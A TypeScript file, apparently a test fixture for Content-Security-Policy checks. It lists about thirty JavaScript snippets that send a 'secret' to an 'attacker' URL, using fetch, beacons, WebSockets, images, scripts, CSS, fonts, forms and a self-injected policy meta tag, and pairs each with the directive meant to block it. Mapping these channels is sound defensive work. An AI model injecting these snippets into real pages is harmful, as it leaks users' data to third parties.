/** The ways in which a page can send data without navigating. */

/** Requests to the attacker, and the directive that stops them. */
export const requests = {
  fetch: ["fetch(attacker + '/?' + secret).catch(() => {})", "connect-src"],
  xhr: [
    "const xhr = new XMLHttpRequest(); xhr.open('GET', attacker + '/?' + secret); xhr.send();",
    "connect-src",
  ],
  beacon: ["navigator.sendBeacon(attacker, secret)", "connect-src"],
  web_socket: ["new WebSocket(attacker.replace('http', 'ws') + '/' + secret)", "connect-src"],
  event_source: ["new EventSource(attacker + '/' + secret)", "connect-src"],
  web_transport: [
    "new WebTransport(attacker.replace('http', 'https')).ready.catch(() => {})",
    "connect-src",
  ],
  ping: [
    "addTo(document.body, 'a', { href: '#here', ping: attacker + '/' + secret }).click()",
    "connect-src",
  ],
  image: ["new Image().src = attacker + '/' + secret", "img-src"],
  icon: ["addTo(document.head, 'link', { rel: 'icon', href: attacker + '/' + secret })", "img-src"],
  video: ["addTo(document.body, 'video', { src: attacker + '/' + secret })", "media-src"],
  style: [
    "addTo(document.head, 'style', { textContent: '@import url(' + attacker + ')' })",
    "style-src-elem",
  ],
  font: ["new FontFace('x', 'url(' + attacker + ')').load().catch(() => {})", "font-src"],
  script: ["addTo(document.head, 'script', { src: attacker + '/' + secret })", "script-src-elem"],
  module: ["import(attacker + '/' + secret).catch(() => {})", "script-src-elem"],
  frame: ["addTo(document.body, 'iframe', { src: attacker + '/' + secret })", "frame-src"],
  object: ["addTo(document.body, 'object', { data: attacker + '/' + secret })", "object-src"],
  embed: ["addTo(document.body, 'embed', { src: attacker + '/' + secret })", "object-src"],
  prefetch: [
    "addTo(document.head, 'link', { rel: 'prefetch', href: attacker + '/' + secret })",
    "default-src",
  ],
  preload: [
    "addTo(document.head, 'link', { rel: 'preload', as: 'image', href: attacker + '/' + secret })",
    "img-src",
  ],
  background: [
    "document.body.style.background = 'url(' + attacker + '/' + secret + ')'",
    "img-src",
  ],
  css_variants: [
    "addTo(document.head, 'style', { textContent: 'p::before { content: url(' + attacker + '/' + secret + ') } p { cursor: url(' + attacker + '), auto }' })",
    "img-src",
  ],
  font_face: [
    "addTo(document.head, 'style', { textContent: '@font-face { font-family: x; src: url(' + attacker + ') } p { font-family: x }' })",
    "font-src",
  ],
  svg_image: [
    "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"' + attacker + '/' + secret + '\" width=9 height=9 /></svg>')",
    "img-src",
  ],
  source_set: [
    "document.body.insertAdjacentHTML('beforeend', '<img srcset=\"' + attacker + '/' + secret + ' 1x\">')",
    "img-src",
  ],
  poster: ["addTo(document.body, 'video', { poster: attacker + '/' + secret })", "img-src"],
  image_input: [
    "addTo(document.body, 'input', { type: 'image', src: attacker + '/' + secret })",
    "img-src",
  ],
  module_preload: [
    "addTo(document.head, 'link', { rel: 'modulepreload', href: attacker + '/' + secret })",
    "script-src-elem",
  ],
  own_policy: [
    "addTo(document.head, 'meta', { httpEquiv: 'Content-Security-Policy', content: 'default-src *; connect-src *' }); fetch(attacker + '/?' + secret).catch(() => {})",
    "connect-src",
  ],
  base: ["addTo(document.head, 'base', { href: attacker + '/' + secret })", "base-uri"],
  form: [
    "addTo(document.body, 'form', { action: attacker + '/' + secret, method: 'post' }).submit()",
    "form-action",
  ],
} as const;
